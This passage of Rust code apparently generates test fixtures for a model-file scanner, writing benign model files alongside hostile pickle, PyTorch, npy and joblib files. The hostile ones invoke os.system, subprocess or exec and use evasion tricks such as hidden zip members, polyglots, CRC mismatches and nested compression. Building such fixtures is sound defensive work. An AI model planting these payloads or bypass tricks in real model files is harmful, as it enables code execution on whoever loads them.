            .int(0xf00d)
            .t3()
            .reduce()
            .pop()
            .op(0x84)
            .raw(&0xf00du32.to_le_bytes())
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-ext-unregistered.pkl",
        P::new(2)
            .op(0x82)
            .op(7)
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h("pkl-dynamic-stack-global.pkl", {
        P::new(4)
            .sbu("builtins")
            .sbu("str")
            .stack_global()
            .sbu("os")
            .t1()
            .reduce()
            .sbu("system")
            .stack_global()
            .sbu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-second-stream.pkl", {
        let mut v = P::new(2).empty_dict().stop().bytes();
        v.extend(simple("os", "system", CMD));
        v
    });
    h("pkl-payload-then-garbage.pkl", {
        let mut v = P::new(2)
            .global("os", "system")
            .bu(CMD)
            .t1()
            .reduce()
            .bytes();
        v.extend(b"\xff\xfe\xfd this is not a pickle any more");
        v
    });
    h(
        "pkl-disguised-as-text.txt",
        format!("cos\nsystem\n(S'{CMD}'\ntR.").into_bytes(),
    );
    h("pkl-nesting-bomb.pkl", {
        let mut v = vec![0x80, 2];
        v.extend(std::iter::repeat_n(b']', 50_000));
        v.extend(std::iter::repeat_n(b'a', 49_999));
        v.push(b'.');
        v
    });
    h(
        "pkl-legacy-torch-sysinfo.pt",
        legacy_torch(
            torch_state_dict(&[("w", 16)], "FloatStorage", false),
            simple("os", "system", CMD),
        ),
    );
    h(
        "pkl-legacy-torch-main.pt",
        legacy_torch(simple("subprocess", "getoutput", CMD), sys_info_benign()),
    );
    h("pkl-state-dict-with-payload.pkl", {
        // A real-looking state dict whose second tensor is built by os.system.
        let mut sd = torch_state_dict(&[("fc.weight", 16)], "FloatStorage", false);
        sd.pop();
        sd.extend(
            P::default()
                .global("os", "system")
                .bu(CMD)
                .t1()
                .reduce()
                .pop()
                .stop()
                .bytes(),
        );
        sd
    });

    // ---- hostile containers ---------------------------------------------------------------
    let payload = || simple("os", "system", CMD);
    let sd = || torch_state_dict(&[("fc.weight", 16), ("fc.bias", 4)], "FloatStorage", false);
    h(
        "zip-torch-data-pkl.pt",
        torch_zip(payload(), &[(16, 4), (4, 4)], vec![]),
    );
    h(
        "zip-torch-data-txt.pt",
        torch_zip(
            sd(),
            &[(16, 4), (4, 4)],
            vec![member("archive/data.txt", payload())],
        ),
    );
    h("zip-torch-flag-bits.pt", {
        let mut m = vec![member("archive/data.pkl", payload())];
        m[0].flags = 0x0001;
        m.push(member("archive/version", b"3\n".to_vec()));
        zip(&m)
    });
    h("zip-torch-crc-mismatch.pt", {
        let mut m = vec![
            member("archive/data.pkl", payload()),
            member("archive/version", b"3\n".to_vec()),
        ];
        m[0].bad_crc = true;
        zip(&m)
    });
    h("zip-torch-name-mismatch.pt", {
        let mut m = vec![
            member("archive/data.pkl", payload()),
            member("archive/version", b"3\n".to_vec()),
        ];
        m[0].local_name = Some("archive/data.pkX");
        zip(&m)
    });
    h(
        "zip-torch-duplicate-data-pkl.pt",
        zip(&[
            member("archive/data.pkl", payload()),
            member("archive/data.pkl", sd()),
            member("archive/version", b"3\n".to_vec()),
        ]),
    );
    h("zip-deflated-member.zip", {
        let mut m = member("model/weights.bin", payload());
        m.deflate = true;
        zip(&[m])
    });
    h(
        "zip-nested-zip.zip",
        zip(&[member(
            "inner.zip",
            zip(&[member("archive/data.pkl", payload())]),
        )]),
    );
    h(
        "zip-npz-object-array.npz",
        zip(&[
            member("a.npy", npy("'<f4'", "(2,)", &[0; 8], 1)),
            member("b.npy", npy("'|O'", "(1,)", &payload(), 1)),
        ]),
    );
    h("zip-polyglot-pickle-zip.pkl", {
        let mut v = P::new(2).empty_dict().stop().bytes();
        v.extend(zip(&[member("archive/data.pkl", payload())]));
        v
    });
    h("zip-prefix-spanned-marker.zip", {
        let mut v = b"PK\x07\x08".to_vec();
        v.extend(zip(&[member("archive/data.pkl", payload())]));
        v
    });
    h("zip-hidden-member.zip", {
        let mut hidden = member("archive/hidden.pkl", payload());
        hidden.in_directory = false;
        zip(&[
            member("archive/version", b"3\n".to_vec()),
            hidden,
            member("archive/data.pkl", sd()),
        ])
    });
    h("zip-overlapping-members.zip", {
        let mut z = zip(&[
            member("a.bin", vec![b'A'; 256]),
            member("b.bin", vec![b'B'; 256]),
        ]);
        // Point the second directory entry at the first local header.
        let cd = z.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap_or(0);
        z[cd + 42..cd + 46].copy_from_slice(&0u32.to_le_bytes());
        z
    });
    h("zip-gzip-pickle.pkl.gz", gzip(&payload()));
    h("zip-zlib-pickle.bin", zlib(&payload()));

    h(
        "tar-torch-legacy-pickle.tar",
        tar(&[
            ("sys_info_pickle", &sys_info_benign()),
            ("pickle", &payload()),
            ("tensors", &P::new(2).int(0).stop().bytes()),
            ("storages", &P::new(2).int(0).stop().bytes()),
        ]),
    );
    h(
        "tar-torch-legacy-sysinfo.tar",
        tar(&[
            ("sys_info_pickle", &payload()),
            ("pickle", &sd()),
            ("storages", &P::new(2).int(0).stop().bytes()),
        ]),
    );
    h(
        "tar-gz-member.tar.gz",
        gzip(&tar(&[("model/weights.pkl", &payload())])),
    );
    let long = format!("{}/data.pkl", "deep/".repeat(30));
    h("tar-pax-long-name.tar", tar(&[(long.as_str(), &payload())]));

    h("npy-object-array.npy", npy("'|O'", "(1,)", &payload(), 1));
    h(
        "npy-object-array-v2.npy",
        npy("'|O'", "(2,)", &simple4("subprocess", "call", CMD), 2),
    );
    h(
        "npy-structured-object-field.npy",
        npy(
            "[('a', '<f4'), ('b', '|O')]",
            "(1,)",
            &simple("builtins", "exec", PY),
            1,
        ),
    );

    h(
        "joblib-payload-after-array.joblib",
        joblib_stream(
            &[1.0, 2.0, 3.0],
            None,
            Some(P::default().call1("os", "system", CMD)),
        ),
    );
    h(
        "joblib-object-array-nested.joblib",
        joblib_stream(&[0.0], Some(simple("os", "system", CMD)), None),
    );
    h(
        "joblib-xz-compressed.joblib",
        xz(&joblib_stream(
            &[1.0, 2.0],
            None,
            Some(P::default().call1("os", "system", CMD)),
        )),
    );
    h(
        "joblib-lzma-compressed.joblib",
        lzma(&joblib_stream(
            &[1.0, 2.0],
            None,
            Some(P::default().call1("os", "system", CMD)),
        )),
    );
    h("zip-xz-pickle.pkl.xz", xz(&payload()));
    b(
        "joblib-benign-xz.joblib",
        xz(&joblib_stream(&[0.5; 4], None, None)),
    );
    h(
        "joblib-zlib-compressed.joblib",
        zlib(&joblib_stream(
            &[1.0, 2.0],
            None,
            Some(P::default().call1("subprocess", "getoutput", CMD)),
        )),
    );

    // ---- benign, shaped like real models --------------------------------------------------
    b(
        "zip-benign-torch-state-dict.pt",
        torch_zip(
            torch_state_dict(
                &[
                    ("conv.weight", 72),
                    ("conv.bias", 8),
                    ("fc.weight", 80),
                    ("fc.bias", 10),
                ],
                "FloatStorage",
                false,
            ),
            &[(72, 4), (8, 4), (80, 4), (10, 4)],
            vec![],
        ),
    );
    b(
        "zip-benign-torch-params-bf16.pt",
        torch_zip(
            torch_state_dict(
                &[("embed.weight", 64), ("norm.weight", 8)],
                "BFloat16Storage",
                true,
            ),
            &[(64, 2), (8, 2)],
            vec![],
        ),
    );
    b(
        "pkl-benign-numpy-p2.pkl",
        numpy_p2(&[0.5, -1.25, 3.0, 1e-3]),
    );
    b("pkl-benign-p0-floats-set.pkl", b"(dp0\nVlr\np1\nF0.001\nsVmomentum\np2\nF0.9\nsVlabels\np3\nc__builtin__\nset\np4\n((lp5\nI1\naI2\naI3\natp6\nRp7\ns.".to_vec());
    b("pkl-benign-ordereddict-p4.pkl", {
        let body = P::default()
            .sbu("collections")
            .memoize()
            .sbu("OrderedDict")
            .memoize()
            .stack_global()
            .memoize()
            .empty_tuple()
            .reduce()
            .memoize()
            .mark()
            .sbu("epoch")
            .memoize()
            .int(12)
            .sbu("best_acc")
            .memoize()
            .float(0.9731)
            .sbu("classes")
            .memoize()
            .empty_list()
            .memoize()
            .mark()
            .sbu("cat")
            .sbu("dog")
            .appends()
            .setitems()
            .stop()
            .bytes();
        P::new(4)
            .op(0x95)
            .raw(&(body.len() as u64).to_le_bytes())
            .raw(&body)
            .bytes()
    });
    b(
        "pkl-benign-legacy-torch.pt",
        legacy_torch(
            torch_state_dict(&[("w", 16)], "FloatStorage", false),
            sys_info_benign(),
        ),
    );
    b(
        "tar-benign-torch-legacy.tar",
        tar(&[
            ("sys_info_pickle", &sys_info_benign()),
            (
                "pickle",
                &torch_state_dict(&[("w", 4)], "FloatStorage", false),
            ),
            ("tensors", &P::new(2).int(0).stop().bytes()),
            ("storages", &P::new(2).int(0).stop().bytes()),
        ]),
    );
    b(
        "npy-benign-float32.npy",
        npy(
            "'<f4'",
            "(2, 3)",
            &(0..6)
                .flat_map(|i| (i as f32).to_le_bytes())
                .collect::<Vec<u8>>(),
            1,
        ),
    );
    b(
        "zip-benign-npz.npz",
        zip(&[
            member("x.npy", npy("'<f8'", "(3,)", &[0u8; 24], 1)),
            member("y.npy", npy("'<i8'", "(3,)", &[1u8; 24], 1)),
        ]),
    );
    b(
        "joblib-benign-estimator.joblib",
        joblib_stream(&[0.25, -0.5, 1.5, 2.0], None, None),
    );
    b(
        "joblib-benign-zlib.joblib",
        zlib(&joblib_stream(&[1.0; 8], None, None)),
    );
    b("pkl-benign-p5-bytearray.pkl", {
        P::new(5)
            .empty_dict()
            .memoize()
            .mark()
            .sbu("blob")
            .op(0x96)
            .raw(&8u64.to_le_bytes())
            .raw(&[1, 2, 3, 4, 5, 6, 7, 8])
            .sbu("name")
            .sbu("tokenizer")
            .setitems()
            .stop()
            .bytes()
    });
    b("pkl-benign-hparams-namespace.pkl", {
        P::new(2)
            .global("argparse", "Namespace")
            .empty_tuple()
            .op(0x81)
            .empty_dict()
            .mark()
            .bu("lr")
            .float(3e-4)
            .bu("batch_size")
            .int(64)
            .bu("layers")
            .int(12)
            .t1()
            .setitems()
            .build()
            .stop()
            .bytes()
    });
    b("zip-benign-deflated-config.zip", {
        let mut m = member(
            "config/notes.txt",
            b"learning rate 3e-4, 12 layers, trained 90 epochs\n".repeat(20),
        );
        m.deflate = true;
        zip(&[
            m,
            member(
                "weights/data.pkl",
                torch_state_dict(&[("w", 4)], "FloatStorage", false),
            ),
        ])
    });
    b(
        "tar-benign-gz-state-dict.tar.gz",
        gzip(&tar(&[("ckpt/data.pkl", &numpy_p2(&[1.0, 2.0]))])),
    );

    let count = |d: &Path| std::fs::read_dir(d).map(|r| r.count()).unwrap_or(0);
    println!(
        "wrote {} hostile and {} benign files under {}",
        count(&hostile),
        count(&benign),
        root.display()
    );
}
